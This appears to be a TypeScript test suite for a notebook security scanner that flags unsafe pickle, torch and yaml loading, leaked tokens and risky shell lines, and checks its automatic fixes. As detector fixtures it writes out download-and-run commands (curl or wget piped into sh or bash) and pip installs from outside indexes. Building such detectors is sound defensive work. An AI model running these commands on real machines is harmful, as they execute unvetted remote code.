import assert from 'node:assert/strict';
import test from 'node:test';
import { analyze, parse, parseNotebook, sameGives, tokensIn, type Gives } from '@kernelward/source';
import { alarmsIn, factsOf, findingsIn, textAt } from './support/source.js';
import { madeUpToken } from './support/tokens.js';

const facts = factsOf();

function cells(...texts: string[]): string[][] {
  let inherited: Gives | undefined;
  return texts.map((text) => {
    const { findings, gives } = analyze(parse(text), { facts, inherited });
    inherited = gives;
    return findings.map(({ callee }) => callee);
  });
}

test('names go from cell to cell in order', () => {
  assert.deepEqual(cells('import dill as d', 'read = d.loads', 'read(data)'), [
    [],
    ['dill.loads'],
    ['dill.loads'],
  ]);
  assert.deepEqual(cells('import dill as d', 'd = None', 'd.loads(data)'), [[], [], []]);
  assert.deepEqual(cells('from joblib import *', 'load("a.pkl")'), [[], ['joblib.load']]);
});

test('what a cell gives compares equal until a name means something else', () => {
  const gives = (text: string) => analyze(parse(text), { facts }).gives;
  assert.ok(sameGives(gives('import pickle\nx = [1]'), gives('# more\nimport pickle\nx = [1]\n')));
  assert.ok(!sameGives(gives('import pickle'), gives('import pickle as p')));
  assert.ok(!sameGives(gives('x = "a.pkl"'), gives('x = "b.pkl"')));
});

test('%env of an earlier cell counts', () => {
  const inherited = analyze(parse('%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1'), { facts }).gives;
  const { findings } = analyze(parse('import torch\ntorch.load("m.pt")'), { facts, inherited });
  assert.match(findings[0]?.message ?? '', /TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD is set/);
});

test('lines of IPython are no Python, and hide none', () => {
  const text =
    '%matplotlib inline\n!ls -l\n%time m = pickle.load(f)\nx = !ls\npickle?\nif a:\n    !ls\npickle.load(f)\n';
  assert.deepEqual(alarmsIn(text), ['3 pickle-load', '8 pickle-load']);
  assert.deepEqual(alarmsIn('%%time\npickle.load(f)\n'), ['2 pickle-load']);
  assert.deepEqual(alarmsIn('%%html\n<b>pickle.load(f)</b>\n'), []);
  assert.deepEqual(alarmsIn('x = (a\n% pickle.load(f))\n'), ['2 pickle-load']);
});

for (const [line, rule] of [
  ['!curl -fsSL https://example.org/i.sh | sh', 'download-and-run'],
  ['!wget -qO- https://example.org/i.sh | sudo bash', 'download-and-run'],
  ['!bash <(curl -s https://example.org/i.sh)', 'download-and-run'],
  ['!curl -o i.sh https://example.org/i.sh && bash i.sh', 'download-and-run'],
  ['!wget https://example.org/i.py; python i.py', 'download-and-run'],
  ['%%bash\ncurl https://example.org/i.sh | python3 -', 'download-and-run'],
  ['import os\nos.system("curl https://example.org/i.sh | sh")', 'download-and-run'],
  [
    'import subprocess\nsubprocess.run(["bash", "-c", "curl https://example.org/x | sh"])',
    'download-and-run',
  ],
  ['%pip install --index-url http://example.org/simple x', 'install-from-elsewhere'],
  ['!pip install --extra-index-url https://example.org/simple x', 'install-from-elsewhere'],
  ['!pip install -i https://example.org/simple x', 'install-from-elsewhere'],
  ['!python -m pip install https://example.org/x-1.0-py3-none-any.whl', 'install-from-elsewhere'],
  ['%pip install git+https://example.org/x.git', 'install-from-elsewhere'],
] as const) {
  test(`${line} is ${rule}`, () => {
    assert.deepEqual(
      findingsIn(line).map((finding) => finding.rule),
      [rule],
    );
  });
}

for (const line of [
  '!curl -O https://example.org/data.csv',
  '!curl -s https://example.org/data.json | jq .name',
  '!wget https://example.org/data.zip && unzip data.zip',
  '%pip install numpy pandas',
  '%pip install torch --index-url https://download.pytorch.org/whl/cpu',
  '!pip install -r requirements.txt',
  '!pip install -e .',
  '!ls | sh.txt',
  '%pip install git+https://example.org/x.git@0123456789012345678901234567890123456789',
]) {
  test(`${line} is let pass`, () => {
    assert.deepEqual(findingsIn(line), []);
  });
}

test('tokens in text and outputs are found, placeholders are not, and no message repeats one', () => {
  const token = madeUpToken('hf_', 34);
  const [finding, ...more] = tokensIn(`login(token="${token}")`);
  assert.equal(more.length, 0);
  assert.ok(finding !== undefined && !finding.message.includes(token.slice(0, 12)));
  for (const harmless of [
    `hf_${'x'.repeat(34)}`,
    'hf_transfer',
    'sk-learn',
    `not${token}`,
    'ghp_your_token_here',
  ]) {
    assert.deepEqual(tokensIn(`t = "${harmless}"`), []);
  }
});

test('comments that suppress are data: what they cover, which rules, and why', () => {
  const text =
    'import pickle\npickle.load(f)  # kernelward: ignore[pickle-load] our own file\n# kernelward: ignore[torch-load, pickle-load]\npickle.load(g)\nx = "# kernelward: ignore"\n# kernelward: ignore-file[yaml-load] generated\n';
  const { suppressions, findings } = analyze(parse(text), { facts });
  assert.equal(findings.length, 2);
  assert.deepEqual(
    suppressions.map(({ kind, rules, reason, covers }) => [
      kind,
      rules,
      reason,
      textAt(text, covers).slice(0, 14),
    ]),
    [
      ['line', ['pickle-load'], 'our own file', 'pickle.load(f)'],
      ['line', ['torch-load', 'pickle-load'], '', 'pickle.load(g)'],
      ['file', ['yaml-load'], 'generated', 'import pickle\n'],
    ],
  );
});

test('a notebook is read into cells with their numbers, sources and outputs', () => {
  const notebook = parseNotebook(
    JSON.stringify({
      nbformat: 4,
      metadata: { language_info: { name: 'Python' } },
      cells: [
        { cell_type: 'markdown', source: '# Title' },
        null,
        {
          cell_type: 'code',
          source: ['import a\n', 'b'],
          outputs: [{ output_type: 'stream', text: ['x\n', 'y'] }],
        },
      ],
    }),
  );
  assert.deepEqual(notebook, {
    kind: 'notebook',
    language: 'python',
    cells: [
      { index: 0, kind: 'markdown', text: '# Title', outputs: [] },
      { index: 2, kind: 'code', text: 'import a\nb', outputs: ['x\ny'] },
    ],
  });
});

for (const text of ['', '{', 'null', '[]', '{}', '{"cells": 3}', '"text"', '\0', '{"cells": [{"cell_type"']) {
  test(`${JSON.stringify(text)} is no notebook, and says so`, () => {
    const notebook = parseNotebook(text);
    assert.ok(notebook.kind === 'error' && notebook.message.startsWith('The notebook '));
  });
}

function fixed(text: string): string[] {
  return findingsIn(text).flatMap(({ fixes }) =>
    fixes.map(({ edits }) =>
      [...edits]
        .sort((a, b) => b.range.from - a.range.from)
        .reduce((now, { range, text: by }) => now.slice(0, range.from) + by + now.slice(range.to), text),
    ),
  );
}

for (const [before, ...after] of [
  ['import torch\ntorch.load(f)', 'import torch\ntorch.load(f, weights_only=True)'],
  ['import torch\ntorch.load(f, weights_only=False)', 'import torch\ntorch.load(f, weights_only=True)'],
  ['import torch\ntorch.load(\n    f,\n)', 'import torch\ntorch.load(\n    f,\n weights_only=True)'],
  ['import torch\ntorch.load(f, pickle_module=p)'],
  ['import torch\ntorch.load(f, **options)'],
  ['import torch\nx = 1\ntorch.load()', 'import torch\nx = 1\ntorch.load(weights_only=True)'],
  ['import yaml\nyaml.load(f, Loader=yaml.Loader)', 'import yaml\nyaml.safe_load(f)'],
  ['import yaml\nyaml.load(Loader=yaml.Loader, stream=f)', 'import yaml\nyaml.safe_load(stream=f)'],
  ['import yaml\nyaml.unsafe_load_all(f)', 'import yaml\nyaml.safe_load_all(f)'],
  ['import numpy\nnumpy.load(f, None, True)', 'import numpy\nnumpy.load(f, None, False)'],
] as const) {
  test(`fixes of ${before}`, () => {
    assert.deepEqual(fixed(before), after);
  });
}
